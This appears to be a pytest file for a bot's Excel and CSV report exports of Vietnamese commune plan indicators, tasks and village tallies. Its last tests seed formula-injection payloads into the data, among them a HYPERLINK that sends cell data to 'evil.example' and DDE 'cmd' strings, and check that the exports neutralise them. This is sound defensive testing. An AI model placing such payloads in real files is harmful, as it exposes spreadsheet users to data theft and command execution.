"""Report files read back with openpyxl (and csv) and compared with the database."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from sqlmodel import Session, col, select

from bot.audit import EVIDENCE_STATUS_LABELS
from bot.i18n import translator
from bot.plans.status import STATUS_LABELS, VERDICT_LABELS
from bot.plans.store import indicator_views, plan_tasks
from bot.services import Services
from bot.tallies.codes import CODE_LABELS, CODE_NAMES
from bot.web.access import Viewer
from bot.web.exports import (
    INDICATOR_HEADERS,
    TASK_HEADERS,
    csv_text,
    group_heading,
    indicators_xlsx,
    roman,
    tallies_csv,
    tallies_xlsx,
    tasks_xlsx,
)
from db.models import Evidence, Indicator, IndicatorTarget, Plan, Tally, Task, Unit, Village
from tests.web.conftest import OWN_UNIT, Seeded, SignIn

T = translator("vi")


def office(seeded: Seeded, services: Services) -> Viewer:
    with Session(services.engine) as session:
        plan = session.exec(select(Plan)).one()
        return Viewer(seeded.office, "Office", plan.commune_id, frozenset({"office"}))


def _table(data: bytes, first_header: str = "TT") -> tuple[list[str], list[tuple[object, ...]]]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    start = next(i for i, row in enumerate(rows) if row[0] == first_header)
    return [str(c) for c in rows[start]], rows[start + 1 :]


def _targets(session: Session, year: int) -> dict[int, str]:
    return {
        row.indicator_id: row.raw
        for row in session.exec(select(IndicatorTarget).where(IndicatorTarget.year == year))
    }


def test_indicator_appendix_matches_the_database(seeded: Seeded, services: Services) -> None:
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        viewer = office(seeded, services)
        plan = session.exec(select(Plan)).one()
        indicators = list(
            session.exec(
                select(Indicator)
                .where(Indicator.plan_id == plan.id, col(Indicator.active).is_(True))
                .order_by(col(Indicator.position))
            )
        )
        # A target for the year reported, next to the plan's 2030 one.
        fed = next(i for i in indicators if i.tally_code)
        session.add(
            IndicatorTarget(
                indicator_id=fed.id or 0, year=today.year, raw="≥ 60%", op=">=", value=60
            )
        )
        session.commit()
        file = indicators_xlsx(session, viewer, T, today)
        expected = {v.indicator.number: v for v in indicator_views(session, indicators, today)}
        this_year = _targets(session, today.year)
        groups = {i.group for i in indicators}
        units = {u.id: u.name for u in session.exec(select(Unit))}
    assert file.file_name.endswith(".xlsx")
    header, rows = _table(file.data)
    assert header == [
        "TT",
        "Chỉ tiêu",
        "Đơn vị tính",
        "Chỉ tiêu năm 2026",
        "Kết quả",
        "Tỷ lệ hoàn thành",
        "Đơn vị chủ trì",
        "Đơn vị phối hợp",
        "Đánh giá",
        "Ghi chú",
    ]
    assert header == [h.format(year=today.year) for h in INDICATOR_HEADERS]
    numbered = [row for row in rows if row[0] and row[1] not in groups]
    assert [str(row[0]) for row in numbered] == list(expected)
    tally_rows = 0
    for row in numbered:
        view = expected[str(row[0])]
        indicator, status = view.indicator, view.status
        assert row[1] == indicator.text
        assert (row[2] or None) == indicator.unit_of_measure
        # Only the target of the year reported, never 2030's in the 2026 column.
        assert (row[3] or None) == this_year.get(view.id)
        if view.id not in this_year and status.raw is not None:
            assert f"chỉ tiêu năm {status.year}: {status.raw}" in str(row[9])
            assert row[5] is None
        if status.actual is None:
            assert row[4] is None
        elif indicator.tally_code:
            assert row[4] == pytest.approx(status.actual / 100)  # a share, shown as a percentage
        tally_rows += 1 if indicator.tally_code else 0
        assert (row[6] or None) == units.get(indicator.lead_unit_id)
        assert (row[7] or "") == "; ".join(units[u] for u in indicator.coordinating)
        assert row[8] == T.gettext(VERDICT_LABELS[status.verdict])
    assert tally_rows >= 1
    assert any(row[4] is not None for row in numbered)  # the tally-fed indicators have results
    row = next(r for r in numbered if str(r[0]) == fed.number)
    actual = expected[fed.number].status.actual
    assert actual is not None
    assert row[3] == "≥ 60%"
    assert row[5] == pytest.approx(actual / 60)


def test_indicator_groups_are_numbered_as_in_the_plan(seeded: Seeded, services: Services) -> None:
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        groups = list(
            dict.fromkeys(
                i.group
                for i in session.exec(select(Indicator).order_by(col(Indicator.position)))
                if i.group
            )
        )
        file = indicators_xlsx(session, office(seeded, services), T, today)
    _header, rows = _table(file.data)
    group_rows = [(row[0], row[1]) for row in rows if row[1] in groups]
    assert group_rows == [(roman(n), g) for n, g in enumerate(groups, 1)]
    assert group_rows[:2] == [("I", "Đến năm 2030"), ("II", "Đến năm 2045")]


def test_numbered_groups_keep_their_number() -> None:
    assert group_heading("II. Bảo đảm an toàn thông tin", 1) == ("II", "Bảo đảm an toàn thông tin")
    assert group_heading("1.2. Về phát triển nguồn nhân lực", 3) == (
        "1.2",
        "Về phát triển nguồn nhân lực",
    )
    assert group_heading("Về hạ tầng", 4) == ("IV", "Về hạ tầng")
    assert [roman(n) for n in (1, 4, 9, 14, 40, 1990)] == ["I", "IV", "IX", "XIV", "XL", "MCMXC"]


def _official(data: bytes, title: str, headers: tuple[str, ...]) -> None:
    """The heading block, print set-up and frozen header of an appendix."""
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = {c.coordinate: c.value for row in sheet.iter_rows() for c in row if c.value}
    assert cells["A1"] == "UBND XÃ TRUNG HỘI (DỮ LIỆU MẪU)"
    assert cells["C1"] == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
    assert cells["C2"] == "Độc lập - Tự do - Hạnh phúc"
    assert {"A1:B1", "C1:" + get_column_letter(len(headers)) + "1"} <= {
        str(r) for r in sheet.merged_cells.ranges
    }
    column_a = [sheet.cell(row=r, column=1).value for r in range(1, 12)]
    assert title in column_a
    assert (
        "(Kèm theo Báo cáo số ……/BC-UBND ngày …… tháng …… năm …… "
        "của UBND xã Trung Hội (dữ liệu mẫu))"
    ) in column_a
    header_row = column_a.index("TT") + 1
    assert tuple(c.value for c in sheet[header_row]) == headers
    assert sheet.freeze_panes == f"A{header_row + 1}"
    setup = sheet.page_setup
    assert setup.orientation == "landscape"
    assert int(setup.paperSize) == int(sheet.PAPERSIZE_A4)
    assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert str(sheet.print_title_rows).replace("$", "") == f"{header_row}:{header_row}"


def test_appendices_have_the_official_heading_and_print_set_up(
    seeded: Seeded, services: Services
) -> None:
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        viewer = office(seeded, services)
        indicators = indicators_xlsx(session, viewer, T, today)
        tasks = tasks_xlsx(session, viewer, T, today, "http://x")
    _official(
        indicators.data,
        "PHỤ LỤC I: KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU",
        tuple(h.format(year=today.year) for h in INDICATOR_HEADERS),
    )
    _official(tasks.data, "PHỤ LỤC II: TIẾN ĐỘ THỰC HIỆN CÁC NHIỆM VỤ", TASK_HEADERS)


def test_percentages_are_formatted_as_percentages(seeded: Seeded, services: Services) -> None:
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        viewer = office(seeded, services)
        indicators = indicators_xlsx(session, viewer, T, today)
        tasks = tasks_xlsx(session, viewer, T, today, "http://x")
    for data, columns in (
        (indicators.data, {"Kết quả", "Tỷ lệ hoàn thành"}),
        (tasks.data, {"Tỷ lệ hoàn thành"}),
    ):
        sheet = load_workbook(io.BytesIO(data)).active
        assert sheet is not None
        column_a = [c.value for c in sheet["A"]]
        header_row = column_a.index("TT") + 1
        wanted = [c.column for c in sheet[header_row] if c.value in columns]
        assert len(wanted) == len(columns)
        numbers = [
            sheet.cell(row=r, column=c)
            for r in range(header_row + 1, sheet.max_row + 1)
            for c in wanted
            if isinstance(sheet.cell(row=r, column=c).value, float | int)
        ]
        assert numbers
        assert all(cell.number_format.endswith("%") for cell in numbers)
        assert all(0 <= cell.value <= 5 for cell in numbers)  # shares, not 0-100 figures


def test_task_list_matches_the_database(seeded: Seeded, services: Services) -> None:
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        file = tasks_xlsx(session, office(seeded, services), T, today, "http://dash.example")
        plan = session.exec(select(Plan)).one()
        views = {v.task.number: v for v in plan_tasks(session, plan.id or 0, today)}
        evidence = list(session.exec(select(Evidence)))
        groups = list(
            dict.fromkeys(
                task.group
                for task in session.exec(
                    select(Task).where(Task.plan_id == plan.id).order_by(col(Task.position))
                )
                if task.group
            )
        )
    header, rows = _table(file.data)
    assert header == list(TASK_HEADERS)
    group_rows = [row for row in rows if row[1] in groups]
    assert [(row[0], row[1]) for row in group_rows] == [
        (roman(n), g) for n, g in enumerate(groups, 1)
    ]
    rows = [row for row in rows if row not in group_rows]
    assert len(rows) == len(views)
    for row in rows:
        view = views[str(row[0])]
        assert row[1] == view.task.text
        assert row[7] == T.gettext(STATUS_LABELS[view.status.status])
        assert row[8] == pytest.approx(view.status.percent / 100)
        assert bool(row[9]) == view.status.red
        due = row[6]
        assert (due.date() if due is not None else None) == view.status.due  # type: ignore[attr-defined]
        lines = [
            f"{T.gettext(EVIDENCE_STATUS_LABELS[e.status])}"
            + (f" ({e.review_reason})" if e.status == "rejected" else "")
            + f": http://dash.example/evidence/{e.id}"
            for e in evidence
            if e.task_id == view.id
        ]
        assert (row[10] or "") == "\n".join(lines)
    own = next(
        row for row in rows if row[10] and f"/evidence/{seeded.own_evidence}" in str(row[10])
    )
    assert own[8] == pytest.approx(0.8)


def test_unit_officer_exports_only_their_tasks(seeded: Seeded, services: Services) -> None:
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        unit = session.exec(select(Unit).where(Unit.name == OWN_UNIT)).one()
        plan = session.exec(select(Plan)).one()
        viewer = Viewer(
            seeded.officer, "Officer", plan.commune_id, frozenset({"unit"}), unit_id=unit.id
        )
        file = tasks_xlsx(session, viewer, T, today, "http://x")
        groups = {task.group for task in session.exec(select(Task))}
        expected = {
            v.task.number
            for v in plan_tasks(session, plan.id or 0, today)
            if v.task.lead_unit_id == unit.id or unit.id in v.task.coordinating
        }
    _header, rows = _table(file.data)
    assert {str(row[0]) for row in rows if row[1] not in groups} == expected


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_tallies_csv_matches_the_database(seeded: Seeded, services: Services) -> None:
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        file = tallies_csv(session, office(seeded, services), T, today)
        stored = {
            (t.period.year, t.period.month, name, t.code): t.value
            for t, name in session.exec(
                select(Tally, Village.name).join(Village, col(Village.id) == Tally.village_id)
            )
        }
    assert file.data.startswith("\ufeff".encode())
    assert file.mime_type == "text/csv; charset=utf-8"
    reader = _csv(file.data)
    labels = [T.gettext(CODE_LABELS[code]) for code in CODE_NAMES]
    assert reader[0] == ["Năm", "Tháng", "Thôn/Xóm", *labels]
    assert reader[0][3:5] == ["VNeID mức 2", "Chữ ký số"]
    read = {
        (int(row[0]), int(row[1]), row[2], code): int(value)
        for row in reader[1:]
        for code, value in zip(CODE_NAMES, row[3:], strict=True)
        if value != ""
    }
    assert read == stored
    months = [(int(row[0]), int(row[1])) for row in reader[1:]]
    assert months == sorted(months)


def test_tallies_csv_suits_excel_on_a_vietnamese_locale(seeded: Seeded, services: Services) -> None:
    """ ";" between cells, CRLF line ends, and no cell Excel reads as a date or a formula."""
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        file = tallies_csv(session, office(seeded, services), T, today)
    text = file.data.decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[-1] == "" and all(line.count(";") == 2 + len(CODE_NAMES) for line in lines[:-1])
    assert "," not in lines[0]
    date_like = re.compile(r"^\d{1,4}[-/.]\d{1,2}([-/.]\d{1,4})?$")
    for row in _csv(file.data):
        for cell in row:
            assert not date_like.match(cell), cell
            assert not cell.startswith(DANGEROUS), cell
    body = _csv(file.data)[1:]
    assert {row[1] for row in body} <= {str(m) for m in range(1, 13)}
    assert all(len(row[0]) == 4 and row[0].isdigit() for row in body)


def test_tallies_xlsx_has_vietnamese_labels_and_the_same_figures(
    seeded: Seeded, services: Services
) -> None:
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        viewer = office(seeded, services)
        csv_file = tallies_csv(session, viewer, T, today)
        file = tallies_xlsx(session, viewer, T, today)
    assert file.file_name == f"so-lieu-{today:%Y-%m-%d}.xlsx"
    assert file.mime_type.endswith("spreadsheetml.sheet")
    headers, rows = _table(file.data, "Tháng")
    assert headers == ["Tháng", "Thôn/Xóm", *(T.gettext(CODE_LABELS[c]) for c in CODE_NAMES)]
    assert headers[2:4] == ["VNeID mức 2", "Chữ ký số"]
    sheet = load_workbook(io.BytesIO(file.data)).active
    assert sheet is not None
    title = str(sheet.cell(row=1, column=1).value)
    assert title == "SỐ LIỆU CÁC THÔN/XÓM THEO THÁNG"
    assert sheet.freeze_panes is not None
    assert sheet.page_setup.orientation == "landscape"
    # The same rows as the CSV; the month a text ("08/2026"), never a date.
    expected = [
        (f"{int(row[1]):02d}/{row[0]}", row[2], *(int(v) if v else None for v in row[3:]))
        for row in _csv(csv_file.data)[1:]
    ]
    assert [tuple(row) for row in rows] == expected
    assert all(isinstance(row[0], str) for row in rows)
    month_cells = [sheet.cell(row=r, column=1) for r in range(1, sheet.max_row + 1)]
    assert all(cell.data_type == "s" for cell in month_cells if cell.value is not None)


POISON = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    " =1+1",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " ")


def poison(services: Services) -> None:
    """Plan, unit, village, indicator and task texts that a spreadsheet would run."""
    with Session(services.engine) as session:
        plan = session.exec(select(Plan)).one()
        plan.title = POISON[2]
        unit = session.exec(select(Unit).where(Unit.name == OWN_UNIT)).one()
        unit.name = POISON[1]
        village = session.exec(select(Village).where(Village.name == "Xóm 3")).one()
        village.name = POISON[3]
        indicator = session.exec(select(Indicator).where(Indicator.plan_id == plan.id)).first()
        assert indicator is not None
        indicator.text = POISON[4]
        indicator.unit_of_measure = POISON[6]
        tasks = list(session.exec(select(Task).where(Task.plan_id == plan.id).limit(4)))
        for task, text in zip(tasks, (POISON[0], POISON[5], POISON[6], POISON[7]), strict=True):
            task.text = text
            task.output = text
            task.deadline_raw = text
        session.add_all([plan, unit, village, indicator, *tasks])
        session.commit()


def test_no_text_becomes_a_formula(seeded: Seeded, services: Services) -> None:
    poison(services)
    today = services.clock().astimezone(services.tz).date()
    with Session(services.engine) as session:
        viewer = office(seeded, services)
        files = [
            indicators_xlsx(session, viewer, T, today),
            tasks_xlsx(session, viewer, T, today, "http://x"),
        ]
        tallies = tallies_csv(session, viewer, T, today)
        files.append(tallies_xlsx(session, viewer, T, today))
    seen = set()
    for file in files:
        sheet_xml = zipfile.ZipFile(io.BytesIO(file.data)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
        sheet = load_workbook(io.BytesIO(file.data)).active
        assert sheet is not None
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
                    seen.add(cell.value)
    # XML reads a carriage return back as a newline.
    assert {p.replace("\r", "\n") for p in POISON} <= seen
    rows = _csv(tallies.data)
    names = {row[2] for row in rows[1:]}
    assert "'" + POISON[3] in names
    assert not any(cell.startswith(DANGEROUS) for row in rows for cell in row)


def test_neutralise_for_csv() -> None:
    for text in POISON:
        assert csv_text(text) == "'" + text
    for text in ("Xóm 3", "2026-03", "12", "", "a=b"):
        assert csv_text(text) == text


async def test_the_appendix_reports_on_the_year_asked_for(
    seeded: Seeded, services: Services, sign_in: SignIn
) -> None:
    with Session(services.engine) as session:
        fed = session.exec(select(Indicator).where(col(Indicator.tally_code).is_not(None))).first()
        assert fed is not None and fed.id is not None
        number = fed.number
        session.add(IndicatorTarget(indicator_id=fed.id, year=2027, raw="≥ 75%", op=">=", value=75))
        session.commit()
    client = await sign_in(seeded.office)
    overview = await (await client.get("/")).text()
    assert 'action="/export/indicators.xlsx"' in overview and 'name="year"' in overview
    response = await client.get("/export/indicators.xlsx?year=2027")
    assert response.status == 200
    header, rows = _table(await response.read())
    assert header[3] == "Chỉ tiêu năm 2027"
    row = next(r for r in rows if str(r[0]) == number)
    assert row[3] == "≥ 75%"
    for bad in ("20x7", "1999", "٢٠٢٧", "20270"):
        assert (await client.get(f"/export/indicators.xlsx?year={bad}")).status == 400, bad
